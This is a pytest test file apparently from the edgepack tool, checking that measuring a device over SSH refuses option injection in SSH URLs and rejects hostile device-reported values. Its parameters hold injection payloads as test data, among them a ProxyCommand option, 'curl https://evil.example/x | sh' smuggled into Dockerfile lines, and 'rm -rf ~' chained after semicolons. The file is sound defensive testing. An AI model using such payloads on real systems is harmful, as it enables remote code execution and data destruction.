"""Measuring over SSH with a hostile address or a hostile device: an ssh option never hides in the user or the host,
and nothing the device reports reaches a command or a generated file unchecked. `ssh`/`scp` are stand-ins on PATH
that record their arguments and answer as a device would (no sshd needed), except where the real ssh is the point."""

from __future__ import annotations

import dataclasses
import json
import shutil
import sys
from pathlib import Path

import pytest

import edgepack.bundle.device_install as device_install
from edgepack.bundle.deploy_files import DeployContext, deploy_files
from edgepack.core.errors import EdgepackError
from edgepack.core.versions import EDGEPACK_VERSION
from edgepack.measure.hardware import DeviceInfo
from edgepack.measure.remote import DeviceStepError, SshDevice, SshSession, connect, device_target, parse_ssh_url

ROOT = "/home/pi/.cache/edgepack/measure-on"
DEVICE = DeviceInfo(os="Linux", machine="aarch64", cpu_model="Cortex-A76", physical_cores=4, logical_cores=4,
                    isa_features=("asimd",), ram_total_bytes=8 * 2**30, ram_available_bytes=6 * 2**30,
                    board="Raspberry Pi 5 Model B Rev 1.0")

FAKE_SSH = """#!{python}
import json, os, sys
with open(os.environ["FAKE_SSH_LOG"], "a") as log:
    log.write(json.dumps(sys.argv) + "\\n")
answers = json.load(open(os.environ["FAKE_SSH_ANSWERS"]))
command = sys.argv[-1]
for needle, answer in answers.items():
    if needle in command:
        print(answer)
        break
"""


@pytest.fixture()
def fake_device(tmp_path: Path, monkeypatch):
    """`ssh` and `scp` stand-ins on PATH; answer(needle=stdout, ...) sets what a remote command containing needle
    prints; calls() gives the argv of each call."""
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("ssh", "scp"):
        (tools / name).write_text(FAKE_SSH.format(python=sys.executable))
        (tools / name).chmod(0o755)
    log, answers = tmp_path / "calls.jsonl", tmp_path / "answers.json"
    monkeypatch.setenv("PATH", f"{tools}:{Path(sys.executable).parent}:/usr/bin:/bin")
    monkeypatch.setenv("FAKE_SSH_LOG", str(log))
    monkeypatch.setenv("FAKE_SSH_ANSWERS", str(answers))

    class Fake:
        @staticmethod
        def answer(**by_needle: str) -> None:
            answers.write_text(json.dumps(by_needle))

        @staticmethod
        def calls() -> list[list[str]]:
            return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []

    Fake.answer()
    return Fake


def device_report(**changes) -> str:
    """The JSON line `python -m edgepack.measure.device_report 1` prints, with `changes` applied."""
    report = {"edgepack": EDGEPACK_VERSION, "python": "3.11", "device": dataclasses.asdict(DEVICE),
              "engines": {"llamacpp": ["cpu"]}, "bandwidth_gbps": {"1": 5.0}}
    for key, value in changes.items():
        if key in report:
            report[key] = value
        else:
            report["device"][key] = value
    return json.dumps(report)


def honest_answers(**report_changes) -> dict[str, str]:
    return {"pwd": ROOT, "import edgepack": EDGEPACK_VERSION, "device_report": device_report(**report_changes)}


@pytest.mark.parametrize("url", ["ssh://-oProxyCommand=touch%20owned@host", "ssh://-oProxyCommand=x",
                                 "ssh://pi@-oProxyCommand=x", "ssh://-oStrictHostKeyChecking=no@host:22"])
def test_an_ssh_option_in_the_user_or_the_host_is_refused(url: str):
    with pytest.raises(EdgepackError, match="not starting with '-'") as caught:
        parse_ssh_url(url)
    assert caught.value.exit_code == 2


def test_ssh_and_scp_get_double_dash_before_the_destination(fake_device, tmp_path: Path):
    session = SshSession(SshDevice(host="orin.local", user="nvidia", port=2222))
    session.run("connect", "true")
    session.put("upload", tmp_path / "answers.json", "/home/nvidia/x")
    options = ["-o", "BatchMode=yes", "-o", "ConnectTimeout=15"]
    ssh, scp = (argv[1:] for argv in fake_device.calls())
    assert ssh == [*options, "-p", "2222", "--", "nvidia@orin.local", "true"]
    assert scp == ["-q", "-r", *options, "-P", "2222", "--", str(tmp_path / "answers.json"),
                   "nvidia@orin.local:/home/nvidia/x"]


@pytest.mark.skipif(shutil.which("ssh") is None, reason="OpenSSH's client is not installed")
def test_a_destination_that_looks_like_an_option_never_runs_as_one(tmp_path: Path):
    """With the real ssh: a host of `-oProxyCommand=...` (past the URL check, say from a caller of SshSession) is a
    host name ssh refuses, not a command it runs."""
    marker = tmp_path / "proxy-command-ran"
    session = SshSession(SshDevice(host=f"-oProxyCommand=touch {marker}", config_file=Path("/dev/null")))
    with pytest.raises(DeviceStepError):
        session.run("connect", "true", timeout_s=30)
    assert not marker.exists()


def test_an_honest_device_becomes_a_target_with_its_own_python(fake_device):
    fake_device.answer(**honest_answers())
    side = connect(SshDevice(host="pi.local", user="pi"), {"llamacpp"}, threads=1)
    target = device_target(side)
    assert (target.python_version, target.arch, side.root) == ("3.11", "aarch64", ROOT)


@pytest.mark.parametrize("changes, named", [
    ({"python": "3.10-slim\nRUN curl https://evil.example/x | sh\n#"}, "its Python version '3.10-slim\\\\nRUN"),
    ({"python": "3.11 "}, "its Python version '3.11 '"),
    ({"edgepack": "0.1.0\nRUN evil"}, "its edgepack version"),
    ({"machine": "aarch64\nRUN evil"}, "machine 'aarch64\\\\nRUN evil'"),
    ({"os": "Linux; rm -rf ~"}, "os 'Linux; rm -rf ~'"),
    ({"cpu_model": "Cortex\nRUN evil"}, "cpu_model"),
    ({"board": "Pi\r\nExecStartPre=/bin/evil"}, "board"),
    ({"physical_cores": "4; rm -rf ~"}, "physical_cores"),
    ({"bandwidth_gbps": {"1": "nan"}}, "a bandwidth at 1 threads"),
])
def test_a_device_reporting_a_value_outside_its_pattern_is_refused_naming_it(fake_device, changes, named):
    fake_device.answer(**honest_answers(**changes))
    with pytest.raises(DeviceStepError, match=f"step 'describe the device' failed: the device reported {named}"):
        connect(SshDevice(host="pi.local", user="pi"), {"llamacpp"}, threads=1)


def test_a_working_folder_a_shell_would_split_is_refused(fake_device):
    fake_device.answer(**{**honest_answers(), "pwd": "/home/pi/x; rm -rf ~"})
    with pytest.raises(DeviceStepError, match="step 'connect' failed: the device reported its working folder"):
        connect(SshDevice(host="pi.local", user="pi"), {"llamacpp"}, threads=1)


def test_what_a_device_reports_never_becomes_a_line_of_the_dockerfile(fake_device):
    """The whole path from the device's answer to the bundle's Dockerfile: refused before any file is written."""
    fake_device.answer(**honest_answers(python="3.10-slim\nRUN curl https://evil.example/x | sh\n#"))
    try:
        side = connect(SshDevice(host="pi.local", user="pi"), {"llamacpp"}, threads=1)
        context = DeployContext(bundle_name="m-device", model_id="m", variant_kind="gguf-q8_0", engine="llamacpp",
                                model_path="model/m.gguf", context=512, threads=1, port=8080,
                                target=device_target(side), has_wheels=False)
        dockerfile = deploy_files(context)["deploy/Dockerfile"][0]
    except EdgepackError as exc:
        assert "3.10-slim" in str(exc)
    else:
        pytest.fail(f"the device's python version was written into the Dockerfile:\n{dockerfile}")


def test_the_installer_refuses_a_device_platform_outside_its_pattern(fake_device, monkeypatch):
    def no_download(*args, **kwargs):
        raise AssertionError("wheels were downloaded for a device platform that was not checked")

    monkeypatch.setattr(device_install, "download_wheels", no_download)
    fake_device.answer(**{"platform.system()": "Linux aarch64 3.11;curl${IFS}evil|sh"})
    device = SshDevice(host="pi.local", user="pi")
    with pytest.raises(DeviceStepError, match="the device reported its Python version '3.11;curl"):
        device_install.install_on_device(SshSession(device), device, ROOT, {"llamacpp"})
